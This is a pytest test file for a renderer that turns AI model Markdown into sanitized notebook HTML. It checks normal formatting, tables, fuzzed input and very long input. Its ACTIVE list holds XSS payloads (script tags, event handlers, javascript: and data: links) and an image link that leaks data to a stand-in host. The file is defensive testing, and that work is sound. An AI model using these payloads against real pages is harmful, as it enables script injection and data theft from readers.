"""A model's Markdown in a notebook: shown as people expect it, and nothing in it acts."""

from __future__ import annotations

import html.parser

import hypothesis
import pytest
from hypothesis import strategies

from genai_integrations.markdown import markdown

SHOWN = [
    ("two *words* and **more**", "<p>two <em>words</em> and <strong>more</strong></p>"),
    ("***both***", "<p><strong><em>both</em></strong></p>"),
    ("~~old~~ snake_case_name _new_", "<p><s>old</s> snake_case_name <em>new</em></p>"),
    ("**굵게**는 2 * 3 * 4", "<p><strong>굵게</strong>는 2 * 3 * 4</p>"),
    ("`a*b*` and ``x`y``", "<p><code>a*b*</code> and <code>x`y</code></p>"),
    (r"\*no\* mark", "<p>*no* mark</p>"),
    ("an *open mark", "<p>an *open mark</p>"),
    ("one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"),
    ("## A title ##\ntext", '<div class="genai-heading">A title</div><p>text</p>'),
    ("a\n\n---\nb", "<p>a</p><hr><p>b</p>"),
    ("- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("1. a\n\n   more\n\n2. b", "<ol><li><p>a</p><p>more</p></li><li>b</li></ol>"),
    ("> said\n> so", "<blockquote><p>said\nso</p></blockquote>"),
    (
        "```python\nif a < b:\n    *x*\n```\nend",
        "<pre><code>if a &lt; b:\n    *x*</code></pre><p>end</p>",
    ),
    ("```\nstill com", "<pre><code>still com</code></pre>"),
    (
        "[docs](https://example.org/a?b=1)",
        (
            '<p><a href="https://example.org/a?b=1" title="https://example.org/a?b=1" target="_blank" '
            'rel="noopener noreferrer nofollow">docs</a></p>'
        ),
    ),
]

ACTIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    '[click](https://e.org/"onmouseover="alert(1))',
    "![see](https://evil.example/leak?data=secret)",
    "![see](javascript:alert(1))",
    "`<b onclick=1>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>x</script> | ![i](https://e.org/x.png) |",
    "# <iframe src=//e.org>",
    "> <style>*{display:none}</style>",
    "- <a href='javascript:1'>x</a>",
    "**<svg/onload=alert(1)>**",
]

TAGS = {
    *("div", "p", "hr", "blockquote", "ul", "ol", "li", "pre", "code", "em", "strong", "s", "a"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"class", "dir", "start", "href", "title", "target", "rel"}


class Reader(html.parser.HTMLParser):
    """Reads HTML as a browser does, and notes what stands open."""

    def __init__(self):
        super().__init__()
        self.open = []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES
            assert name != "href" or value.lower().startswith(("http://", "https://", "mailto:"))
        if tag != "hr":
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag


def check(text):
    """Only our own tags, each closed in its place, and only addresses of pages."""
    reader = Reader()
    reader.feed(markdown(text))
    reader.close()
    assert reader.open == []


@pytest.mark.parametrize(("said", "shown"), SHOWN)
def test_markdown_is_shown_as_people_expect_it(said, shown):
    """What models write: emphasis, code, lists, quotes, titles, links."""
    assert markdown(said) == f'<div class="genai-markdown" dir="auto">{shown}</div>'
    assert markdown(said).plain == said


def test_a_table_is_a_table():
    """Rows of another length than the head are filled up or cut."""
    made = markdown("| a | b |\n|:--|--:|\n| 1 | **2** |\n| 3 |\nend")
    assert made.count("<tr>") == 3
    assert "<strong>2</strong>" in made
    assert made.endswith("<p>end</p></div>")


@pytest.mark.parametrize("text", ACTIVE)
def test_nothing_in_an_answer_acts(text):
    """No script, no handler, no style, and no image, whose address would tell its server who reads, and what."""
    check(text)
    assert "<img" not in markdown(text)


@hypothesis.given(
    strategies.lists(
        strategies.sampled_from(
            [
                *"*_~`#>|-[]()!\\\n <&\"'a",
                "**",
                "```",
                "\n- ",
                "\n> ",
                "](https://e.org)",
                "|--|\n",
                "<b>",
            ]
        ),
        max_size=60,
    )
)
def test_whatever_comes_is_whole(pieces):
    """Marks in any order give HTML that is closed in its place."""
    check("".join(pieces))


@pytest.mark.parametrize(
    "text",
    ["*a " * 50_000, "[" * 50_000, "`" * 50_000, "> " * 50_000, "- " * 50_000, "|-" * 50_000],
)
def test_a_long_answer_made_to_keep_us_busy_is_shown(text):
    """Work is linear in the text, and depth is bounded."""
    check(text[:100_000])
    assert "genai-prose" in markdown("x" * 200_001)
